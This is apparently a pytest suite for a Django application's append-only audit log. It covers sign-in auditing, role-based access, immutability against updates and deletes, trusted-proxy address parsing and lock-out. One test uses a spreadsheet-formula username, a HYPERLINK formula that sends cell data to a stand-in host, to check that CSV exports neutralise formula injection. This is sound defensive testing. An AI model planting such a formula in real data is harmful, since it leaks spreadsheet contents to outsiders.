"""The audit log: one entry per audited action, append-only, searchable by the right people."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import DatabaseError, connection, transaction
from django.test import Client

from dsvb.web.accounts.roles import Role
from dsvb.web.audit.models import Action, AuditEvent, ImmutableError
from dsvb.web.audit.recorder import record
from tests.web.conftest import PASSWORD


def entries(action: str) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=action))


def test_signing_in_and_out_make_one_entry_each_with_who_and_where(make_user) -> None:
    user = make_user(Role.BOARD_MEMBER, username="bola")
    client = Client(REMOTE_ADDR="10.1.2.3", HTTP_USER_AGENT="TestBrowser/1.0")
    client.post("/accounts/sign-in/", {"username": "bola", "password": PASSWORD})
    client.post("/accounts/sign-out/")
    (signed_in,) = entries(Action.SIGN_IN)
    (signed_out,) = entries(Action.SIGN_OUT)
    assert signed_in.actor_id == user.pk and signed_in.actor_username == "bola"
    assert signed_in.actor_role == Role.BOARD_MEMBER
    assert signed_in.ip_address == "10.1.2.3" and signed_in.user_agent == "TestBrowser/1.0"
    assert signed_in.at <= signed_out.at
    assert AuditEvent.objects.count() == 2


def test_a_failed_sign_in_names_the_user_name_tried(db) -> None:
    Client().post("/accounts/sign-in/", {"username": "mallory", "password": "guessing-123"})
    (failed,) = entries(Action.SIGN_IN_FAILED)
    assert failed.actor_id is None and failed.actor_username == "mallory"


def test_a_refusal_is_audited_once(client_for) -> None:
    client = client_for(Role.BOROUGH_USER)
    assert client.get("/audit/").status_code == 403
    (refused,) = entries(Action.ACCESS_DENIED)
    assert refused.object_id == "/audit/" and refused.actor_username == client.user.username


def test_searching_and_exporting_the_log_are_themselves_audited(client_for) -> None:
    client = client_for(Role.AUDITOR)
    record(None, Action.SETTING_CHANGED, "Threshold changed from 7 to 10", username="sam")
    page = client.get("/audit/", {"text": "threshold"})
    assert page.status_code == 200
    assert b"Threshold changed from 7 to 10" in page.content
    assert b"1 entry" in page.content
    (searched,) = entries(Action.AUDIT_SEARCHED)
    assert searched.details == {
        "criteria": {"text": "threshold"},
        "page": 1,
        "path": "/audit/?text=threshold",
    }
    assert searched.summary == "Searched the audit log"
    assert client.get("/audit/").status_code == 200  # reading it unsearched is recorded too
    read = AuditEvent.objects.filter(action=Action.AUDIT_SEARCHED).order_by("-id").first()
    assert read.summary == "Read the audit log"
    assert read.details == {"criteria": {}, "page": 1, "path": "/audit/"}

    download = client.get("/audit/export.csv", {"action": Action.SETTING_CHANGED})
    rows = list(csv.reader(io.StringIO(download.content.decode())))
    assert rows[0][:2] == ["at", "user"] and len(rows) == 2
    assert rows[1][1] == "sam" and rows[1][4] == Action.SETTING_CHANGED
    (exported,) = entries(Action.AUDIT_EXPORTED)
    assert exported.details["rows"] == 1


def test_exported_cells_that_look_like_formulas_stay_text(client_for) -> None:
    # anyone can choose the user name recorded by a failed sign-in
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    Client().post("/accounts/sign-in/", {"username": formula, "password": "guessing-123"})
    record(None, Action.SETTING_CHANGED, "+threshold raised", username="@sam")
    download = client_for(Role.AUDITOR).get("/audit/export.csv")
    rows = {r[4]: r for r in csv.reader(io.StringIO(download.content.decode()))}
    assert rows[Action.SIGN_IN_FAILED][1] == "'" + formula
    assert rows[Action.SETTING_CHANGED][1] == "'@sam"
    assert rows[Action.SETTING_CHANGED][7] == "'+threshold raised"


def test_search_filters_by_user_action_and_date(client_for) -> None:
    client = client_for(Role.SECRETARIAT)
    record(None, Action.SETTING_CHANGED, "first", username="sam")
    record(None, Action.EXPORTED, "second", username="kim")
    response = client.get("/audit/", {"username": "kim", "action": Action.EXPORTED})
    assert b"second" in response.content and b"first" not in response.content
    response = client.get("/audit/", {"date_from": "2000-01-01", "date_to": "2000-01-02"})
    assert b"No entries match" in response.content


@pytest.mark.parametrize("role", [Role.BOARD_MEMBER, Role.FORCE_ANALYST, Role.PARTNER])
def test_only_the_secretariat_and_auditors_can_read_the_log(client_for, role) -> None:
    assert client_for(role).get("/audit/").status_code == 403
    assert client_for(role, username=f"x-{role}").get("/audit/export.csv").status_code == 403


def test_the_log_has_no_way_to_change_it_through_the_application(client_for) -> None:
    client = client_for(Role.SECRETARIAT)
    assert client.post("/audit/", {"summary": "x"}).status_code == 405
    assert client.post("/audit/export.csv").status_code == 405
    event = record(None, Action.EXPORTED, "original", username="kim")
    with pytest.raises(ImmutableError):
        event.summary = "rewritten"
        event.save()
    with pytest.raises(ImmutableError):
        event.delete()
    with pytest.raises(ImmutableError):
        AuditEvent.objects.filter(pk=event.pk).update(summary="rewritten")
    with pytest.raises(ImmutableError):
        AuditEvent.objects.all().delete()
    assert AuditEvent.objects.get(pk=event.pk).summary == "original"


def test_the_database_refuses_changes_too(db) -> None:
    event = record(None, Action.EXPORTED, "original", username="kim")
    for sql in (
        "UPDATE audit_auditevent SET summary = 'rewritten'",
        "DELETE FROM audit_auditevent",
    ):
        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(sql)
    if connection.vendor == "postgresql":
        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute("TRUNCATE audit_auditevent")
    assert AuditEvent.objects.get(pk=event.pk).summary == "original"


@pytest.mark.parametrize(
    ("proxies", "forwarded", "expected"),
    [
        (0, "203.0.113.9", "10.0.0.2"),  # no proxy configured: the header is not believed
        (1, "203.0.113.9", "203.0.113.9"),
        (1, "198.51.100.66, 203.0.113.9", "203.0.113.9"),  # the client's own entry ignored
        (2, "198.51.100.66, 203.0.113.9, 10.0.0.7", "203.0.113.9"),
        (2, "203.0.113.9", "10.0.0.2"),  # fewer entries than proxies: keep the connection's
        (1, "not-an-address", "10.0.0.2"),
    ],
)
def test_the_address_behind_trusted_proxies(settings, make_user, proxies, forwarded, expected):
    settings.DSVB_PROXY_COUNT = proxies
    make_user(Role.BOARD_MEMBER, username="bola")
    client = Client(REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR=forwarded)
    client.post("/accounts/sign-in/", {"username": "bola", "password": PASSWORD})
    (signed_in,) = entries(Action.SIGN_IN)
    assert signed_in.ip_address == expected


def test_the_lock_out_counts_failures_per_address_behind_a_proxy(settings, make_user) -> None:
    settings.DSVB_PROXY_COUNT = 1
    make_user(Role.BOARD_MEMBER, username="bola")

    def attempt(address: str, password: str) -> int:
        client = Client(REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR=address)
        return client.post(
            "/accounts/sign-in/", {"username": "bola", "password": password}
        ).status_code

    for _ in range(settings.AXES_FAILURE_LIMIT):
        attempt("198.51.100.66", "guessing-123")
    assert attempt("198.51.100.66", PASSWORD) == 429  # that address is locked out
    assert attempt("203.0.113.9", PASSWORD) == 302  # the user, elsewhere, is not
